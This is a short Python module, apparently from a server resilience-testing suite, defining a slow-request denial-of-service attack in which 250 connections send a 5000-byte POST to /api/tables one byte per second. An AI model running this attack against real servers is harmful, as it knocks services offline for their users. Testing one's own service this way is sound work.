"""250 connections of one address send their requests byte by byte, one each second."""

from .target import Target
from .waiting import wait

REQUEST = b"POST /api/tables HTTP/1.1\r\nHost: igroteka\r\nContent-Length: 5000\r\n\r\n" + bytes(5_000)


async def attack(target: Target) -> None:
    await wait(target, 250, REQUEST)
